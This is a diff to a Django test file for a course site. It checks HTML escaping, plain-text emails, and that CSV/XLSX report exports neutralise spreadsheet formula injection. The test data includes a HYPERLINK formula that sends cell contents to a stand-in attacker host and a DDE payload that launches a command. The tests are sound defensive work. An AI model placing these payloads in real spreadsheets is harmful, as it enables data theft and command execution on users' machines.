@@ -5,9 +5,12 @@ carries a script tag, an attribute break-out and Chinese text; the raw markup mu
 appear in the HTML, and the escaped text must. The site's Content-Security-Policy
 (tests/test_security_headers.py) would stop an injected inline script even so."""
 
+import csv
+import io
 import json
 from pathlib import Path
 
+import openpyxl
 import pytest
 from django.core import mail
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -53,6 +56,10 @@ def page(client, url, label, *, status=200, whole=True, **params) -> str:
         assert raw not in html, (label, url, raw)
     assert (ESCAPED if whole else ESCAPED_TAIL) in html, (label, url)
     return html
+
+
+def plain_text_only(message) -> bool:
+    return message.content_subtype == "plain" and not getattr(message, "alternatives", None)
 
 
 @pytest.fixture
@@ -169,7 +176,7 @@ def test_member_names_are_escaped_on_the_certificate_and_in_the_admin(
     page(client_for("trainer", demo), f"/admin/courses/{demo['course'].pk}/members/", "members")
     # The email is plain text (no HTML part): the name as typed, not escaped.
     (email,) = [m for m in mail.outbox if m.to == [user.email]]
-    assert email.alternatives == [] and PAYLOAD in email.body
+    assert plain_text_only(email) and PAYLOAD in email.body
 
 
 def test_plain_text_emails_keep_titles_and_names_as_typed(
@@ -187,7 +194,7 @@ def test_plain_text_emails_keep_titles_and_names_as_typed(
     with django_capture_on_commit_callbacks(execute=True):
         enrol(applicant, CoursePage.objects.get(pk=course.pk))
     (request,) = mail.outbox  # to the course's trainer
-    assert request.alternatives == []
+    assert plain_text_only(request)
     assert PAYLOAD in request.subject and PAYLOAD in request.body
     assert "O'Brien & <Co>" in request.body and "&amp;" not in request.body
 
@@ -314,3 +321,78 @@ def test_caption_cues_labels_and_chapters_of_an_uploaded_video_are_escaped(
     assert vtt["Content-Type"].startswith("text/vtt") and vtt["X-Content-Type-Options"] == "nosniff"
     body = vtt.content.decode()
     assert "<script" not in body and "<img" not in body and CHINESE in body
+
+
+# Spreadsheets: what people typed must not run as a formula ---------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+]
+
+
+def test_only_text_that_would_start_a_formula_changes():
+    from datetime import date
+
+    from insights.spreadsheets import as_text_cell
+
+    assert as_text_cell("\t=1+1") == "'\t=1+1" and as_text_cell("\r@A1") == "'\r@A1"
+    assert [as_text_cell(v) for v in ("王芳", "42%", "a=b", -3, 2.5, date(2026, 1, 1))] == [
+        "王芳", "42%", "a=b", -3, 2.5, date(2026, 1, 1),
+    ]  # fmt: skip
+
+
+def spreadsheet_cells(response) -> tuple[list[list[str]], list]:
+    """The CSV's rows as text, or the XLSX's cells (openpyxl cells, to see their type)."""
+    data = b"".join(response.streaming_content) if response.streaming else response.content
+    if response["Content-Type"].startswith("text/csv"):
+        return list(csv.reader(io.StringIO(data.decode("utf-8-sig")))), []
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+    return [], [cell for row in sheet.iter_rows() for cell in row]
+
+
+def assert_no_formula(response, typed: list[str]):
+    rows, cells = spreadsheet_cells(response)
+    if rows:
+        texts = [cell for row in rows for cell in row]
+        for value in typed:
+            # Kept, readable, but started with an apostrophe: a spreadsheet shows it as text.
+            assert "'" + value in texts, (value, texts)
+            assert value not in texts
+    else:
+        values = {cell.value: cell.data_type for cell in cells}
+        for value in typed:
+            assert values.get(value) == "s", (value, values)  # text, not a formula
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_names_in_report_downloads_are_not_formulas(demo, fmt):
+    member = demo["users"]["member"]
+    member.first_name, member.last_name = FORMULAS[0], ""
+    member.save()
+    trainer = client_for("trainer", demo)
+    response = trainer.get(
+        "/admin/insights/progress/", {"course": demo["course"].pk, "export": fmt}
+    )
+    assert response.status_code == 200
+    assert_no_formula(response, [FORMULAS[0]])
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_survey_answers_in_downloads_are_not_formulas(demo, fmt):
+    from insights.models import CourseFeedbackPage, FeedbackFormField
+
+    survey = CourseFeedbackPage(title="Course feedback", slug="feedback")
+    demo["course"].add_child(instance=survey)
+    for i in range(len(FORMULAS)):
+        FeedbackFormField.objects.create(page=survey, label=f"Q{i}", field_type="singleline")
+    survey.save_revision().publish()
+    answers = {f"q{i}": value for i, value in enumerate(FORMULAS)}
+    assert client_for("member", demo).post(survey.url, answers).status_code == 200
+    response = client_for("trainer", demo).get(
+        f"/admin/forms/submissions/{survey.pk}/", {"export": fmt}
+    )
+    assert response.status_code == 200
+    assert_no_formula(response, FORMULAS)
